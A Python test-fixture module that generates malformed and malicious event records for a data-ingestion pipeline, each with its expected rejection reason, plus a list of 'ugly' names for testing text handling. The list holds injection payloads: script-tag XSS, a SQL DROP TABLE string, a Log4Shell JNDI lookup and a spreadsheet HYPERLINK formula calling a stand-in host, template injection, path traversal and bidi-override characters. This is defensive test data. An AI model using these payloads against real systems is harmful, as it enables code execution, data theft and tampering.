"""Broken and malicious input, each with the reason for which it must be rejected; and texts that are only ugly."""

from collections.abc import Iterator
from typing import Any, NamedTuple

import orjson

from schemas.outcome import Reason
from schemas.times import DAY
from streams.sample.wire import local

TEN_YEARS = 3_650 * DAY
DEEP = 400  # levels of nesting
LARGE = 300_000  # characters of one event
AVRO_OF_NOBODY = b"\x00\x7f\xff\xff\xfe" + b"\x02garbage"  # Confluent's magic byte and a schema id that nobody has


class Hostile(NamedTuple):
    """One record and the reason for which it must be rejected. `json` False: not even sent as JSON."""

    name: str
    body: bytes
    reason: Reason
    json: bool = True


def hostile(at: int, run: int) -> Iterator[Hostile]:
    """Yield one of each at a time (ms); `run` makes their ids unique."""
    yield from _unreadable(run)
    yield from _misshapen(at, run)
    yield from _out_of_time(at, run)
    yield from _oversized(at, run)
    yield from _nobody(at, run)


def _record(name: str, at: int, run: int, **changes: Any) -> dict[str, Any]:
    """Return a good page view, with changes; None takes a field out."""
    record: dict[str, Any] = {
        "event_id": f"hostile-{name}-{run}",
        "type": "page_viewed",
        "source": "website",
        "occurred_at": local(at),
        "subject": {"ids": [{"kind": "device", "value": f"hostile-{run}"}]},
        "data": {"url": "https://www.example.cn/"},
    }
    return {field: value for field, value in {**record, **changes}.items() if value is not None}


def _bad(name: str, reason: Reason, at: int, run: int, **changes: Any) -> Hostile:
    return Hostile(name, orjson.dumps(_record(name, at, run, **changes)), reason)


def _unreadable(run: int) -> Iterator[Hostile]:
    yield Hostile("truncated", f'{{"event_id": "hostile-truncated-{run}", "type": "page_v'.encode(), "not_json")
    yield Hostile("binary", b"\xff\xfe\x00\xd8 not text", "not_json")
    yield Hostile("html", b"<html><body>502 Bad Gateway</body></html>", "not_json")
    yield Hostile("surrogate", b'{"event_id": "hostile-\\ud800", "type": "page_viewed"}', "not_json")
    yield Hostile("avro", AVRO_OF_NOBODY, "unknown_schema", json=False)


def _misshapen(at: int, run: int) -> Iterator[Hostile]:
    yield _bad("unknown-type", "unknown_type", at, run, type="coffee_brewed")
    yield _bad(
        "internal-type",
        "unknown_type",
        at,
        run,
        type="lead_assigned",
        data={"lead": "lead:x", "rep_id": "evil", "region": "华东"},
    )
    yield _bad("no-type", "missing_field", at, run, type=None)
    yield _bad("no-id", "missing_field", at, run, event_id=None)
    yield _bad("no-url", "missing_field", at, run, data={"title": "no address"})
    yield _bad("long-id", "bad_field", at, run, event_id="x" * 65)
    yield _bad("wrong-type", "bad_field", at, run, data={"url": ["a", "list"]})
    yield _bad("text-as-number", "bad_field", at, run, data={"url": "/", "dwell_ms": "' OR 1=1 --"})
    yield _bad("bool-as-number", "bad_field", at, run, data={"url": "/", "dwell_ms": True})
    yield _bad("negative", "bad_field", at, run, data={"url": "/", "dwell_ms": -1})
    order = {"order_id": "1", "amount": "9" * 400}
    yield _bad("huge-number", "bad_field", at, run, type="order_placed", data=order)


def _out_of_time(at: int, run: int) -> Iterator[Hostile]:
    yield _bad("bad-time", "bad_time", at, run, occurred_at="昨天中午")
    yield _bad("no-such-day", "bad_time", at, run, occurred_at="2026-02-30T10:00:00+08:00")
    yield _bad("future", "future_time", at, run, occurred_at=local(at + TEN_YEARS))


def _oversized(at: int, run: int) -> Iterator[Hostile]:
    deep = orjson.dumps(_record("deep", at, run, data={"url": "/", "x": 0}))
    nested = b"[" * DEEP + b"]" * DEEP
    yield Hostile("deep", deep.replace(b'"x":0', b'"x":' + nested), "too_deep")
    yield _bad("large", "too_large", at, run, data={"url": "/", "x": "x" * LARGE})


def _nobody(at: int, run: int) -> Iterator[Hostile]:
    yield _bad("no-subject", "no_subject", at, run, subject=None)
    yield _bad("unknown-kind", "bad_identifier", at, run, subject={"ids": [{"kind": "fax", "value": "123"}]})
    yield _bad("empty-value", "bad_identifier", at, run, subject={"ids": [{"kind": "phone", "value": ""}]})


UGLY_NAMES = (
    "<script>alert('老板')</script>",
    "Robert'); DROP TABLE leads;--",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}",
    "../../etc/passwd",
    '=HYPERLINK("http://x.example";"点我")',
    "王\u202e小\u2066明",
    "Z̷̢̛a̸l̵g̶o̷",
    "👨‍👩‍👧‍👦",
    "O'Brien \\\" \\n %s %00",
)
"""Names that attack whoever fails to treat a text as a text. The forms with them are good and make leads."""
